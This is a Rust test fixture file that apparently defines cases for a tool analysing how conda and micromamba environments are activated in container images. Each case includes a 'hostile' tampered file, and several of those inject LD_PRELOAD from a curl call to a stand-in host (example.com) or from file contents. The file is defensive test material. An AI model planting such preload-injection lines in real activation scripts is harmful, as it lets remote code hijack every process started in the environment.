//! micromamba, and conda in its ways to be activated.

use serde_json::json;

use super::{Case, PASSWD, PYTHON};

/// micromamba-docker: `_entrypoint.sh` and `_activate_current_env.sh`.
pub fn micromamba() -> Case {
    let entrypoint = r#"#!/usr/bin/env bash
set -ef -o pipefail
if [[ -f /etc/arg_mamba_user && "${MAMBA_USER}" != "$(cat "/etc/arg_mamba_user")" ]]; then
    echo "the user differs" >&2
    exit 1
fi
if [[ ! -v USER && ! -v HOME && $(id -u) -gt 0 ]]; then
  export USER="$MAMBA_USER"
  export HOME="/home/$USER"
fi
source _activate_current_env.sh
exec "$@"
"#;
    let activate = r#"if [[ "${MAMBA_SKIP_ACTIVATE}" == "1" ]]; then
  return
fi
eval "$("${MAMBA_EXE}" shell hook --shell=bash)"
__setup="$('conda' 'shell.bash' 'hook' 2> /dev/null)" || true
if [ ! -z "${__setup}" ]; then
    eval "$__setup"
else
    if [ -f "${CONDA_PREFIX}/etc/profile.d/conda.sh" ]; then
        . "${CONDA_PREFIX}/etc/profile.d/conda.sh"
    fi
fi
unset __setup
if [ -f "${CONDA_PREFIX}/etc/profile.d/mamba.sh" ]; then
    . "${CONDA_PREFIX}/etc/profile.d/mamba.sh"
fi
conda activate "${ENV_NAME}" 2>/dev/null \
  || mamba activate "${ENV_NAME}" 2>/dev/null \
  || micromamba activate "${ENV_NAME}"
"#;
    Case {
        name: "micromamba",
        config: json!({
            "Entrypoint": ["/usr/local/bin/_entrypoint.sh"], "Cmd": PYTHON, "User": "app",
            "Env": [
                "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "ENV_NAME=base", "MAMBA_USER=app",
                "MAMBA_EXE=/bin/micromamba", "MAMBA_ROOT_PREFIX=/opt/conda",
            ],
        }),
        files: vec![
            ("usr/local/bin/_entrypoint.sh", entrypoint),
            ("usr/local/bin/_activate_current_env.sh", activate),
            ("etc/arg_mamba_user", "app\n"),
            ("etc/passwd", PASSWD),
            ("opt/conda/conda-meta/history", ""),
            (
                "opt/conda/etc/conda/activate.d/libfoo.sh",
                "export LD_LIBRARY_PATH=\"$CONDA_PREFIX/extra${LD_LIBRARY_PATH:+:$LD_LIBRARY_PATH}\"\n",
            ),
        ],
        programs: vec!["usr/bin/micromamba"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/extra")],
        hostile: (
            "opt/conda/etc/conda/activate.d/zz.sh",
            "export LD_PRELOAD=\"$(curl https://example.com/x)\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// An installation of conda with the environment `gpu`.
pub fn conda() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "opt/conda/bin/conda",
            "#!/opt/conda/bin/python\n# -*- coding: utf-8 -*-\nimport sys\n\nif __name__ == '__main__':\n    from conda.cli import main\n    sys.exit(main())\n",
        ),
        ("opt/conda/conda-meta/history", ""),
        ("opt/conda/envs/gpu/conda-meta/history", ""),
        (
            "opt/conda/envs/gpu/etc/conda/activate.d/cuda.sh",
            "export LD_LIBRARY_PATH=\"${CONDA_PREFIX}/lib:${LD_LIBRARY_PATH}\"\n",
        ),
    ]
}

const CONDA_PATH: &str =
    "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// `conda activate` behind the hook of a shell, as Dockerfiles write it.
pub fn conda_hook() -> Case {
    let start = "#!/bin/bash --login\nset -e\neval \"$(conda shell.bash hook)\"\nconda activate gpu\nexec \"$@\"\n";
    Case {
        name: "conda hook",
        config: json!({"Entrypoint": ["/start.sh"], "Cmd": PYTHON, "Env": [CONDA_PATH]}),
        files: [vec![("start.sh", start)], conda()].concat(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/envs/gpu/lib:")],
        hostile: (
            "opt/conda/bin/conda",
            "#!/opt/conda/bin/python\nimport sys\nprint('export LD_PRELOAD=/tmp/x.so')\n",
            "conda",
        ),
    }
}

/// `conda activate` behind conda's file for login shells.
pub fn conda_profile() -> Case {
    let profile = r#"export CONDA_EXE='/opt/conda/bin/conda'
export _CE_M=''
export _CE_CONDA=''
export CONDA_PYTHON_EXE='/opt/conda/bin/python'
__conda_exe() (
    "$CONDA_EXE" $_CE_M $_CE_CONDA "$@"
)
__conda_hashr() {
    if [ -n "${ZSH_VERSION:+x}" ]; then
        \rehash
    elif [ -n "${POSH_VERSION:+x}" ]; then
        :  # pass
    else
        \hash -r
    fi
}
__conda_activate() {
    if [ -n "${CONDA_PS1_BACKUP:+x}" ]; then
        PS1="$CONDA_PS1_BACKUP"
        \unset CONDA_PS1_BACKUP
    fi
    \local ask_conda
    ask_conda="$(PS1="${PS1:-}" __conda_exe shell.posix "$@")" || \return
    \eval "$ask_conda"
    __conda_hashr
}
conda() {
    \local cmd="${1-__missing__}"
    case "$cmd" in
        activate|deactivate)
            __conda_activate "$@"
            ;;
        *)
            __conda_exe "$@"
            ;;
    esac
}
if [ -z "${CONDA_SHLVL+x}" ]; then
    \export CONDA_SHLVL=0
    if [ -n "${_CE_CONDA:+x}" ] && [ -n "${WINDIR+x}" ]; then
        PATH="$(\dirname "$CONDA_EXE")/condabin${PATH:+":${PATH}"}"
    else
        PATH="$(\dirname "$(\dirname "$CONDA_EXE")")/condabin${PATH:+":${PATH}"}"
    fi
    \export PATH
    if [ -z "${PS1+x}" ]; then
        PS1=
    fi
fi
"#;
    Case {
        name: "conda profile",
        config: json!({
            "Entrypoint": ["/bin/bash", "-c", ". /opt/conda/etc/profile.d/conda.sh && conda activate gpu && exec python3 serve.py"],
            "Env": [CONDA_PATH],
        }),
        files: [vec![("opt/conda/etc/profile.d/conda.sh", profile)], conda()].concat(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![(
            "PATH",
            "/opt/conda/envs/gpu/bin:/opt/conda/condabin:/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        )],
        hostile: (
            "opt/conda/etc/profile.d/conda.sh",
            "conda() { export LD_PRELOAD=$(curl https://example.com/x); }\n",
            "LD_PRELOAD",
        ),
    }
}

pub fn conda_run() -> Case {
    Case {
        name: "conda run",
        config: json!({
            "Entrypoint": ["conda", "run", "--no-capture-output", "-n", "gpu", "python3", "serve.py"], "Env": [CONDA_PATH],
        }),
        files: conda(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/envs/gpu/lib:")],
        hostile: (
            "opt/conda/envs/gpu/etc/conda/activate.d/zz.sh",
            "export PYTHONPATH=$(cat /data/path)\n",
            "PYTHONPATH",
        ),
    }
}

pub fn source_activate() -> Case {
    let activate = "#!/bin/sh\n_CONDA_ROOT=\"/opt/conda\"\n. \"$_CONDA_ROOT\"/etc/profile.d/conda.sh || return $?\nconda activate \"$@\"\n";
    let case = conda_profile();
    Case {
        name: "source activate",
        config: json!({"Cmd": ["/bin/bash", "-c", "source activate gpu && exec python3 serve.py"], "Env": [CONDA_PATH]}),
        files: [vec![("opt/conda/bin/activate", activate)], case.files].concat(),
        hostile: (
            "opt/conda/bin/activate",
            "#!/bin/sh\nexport LD_PRELOAD=\"$(cat /data/name)\"\n",
            "LD_PRELOAD",
        ),
        ..case
    }
}
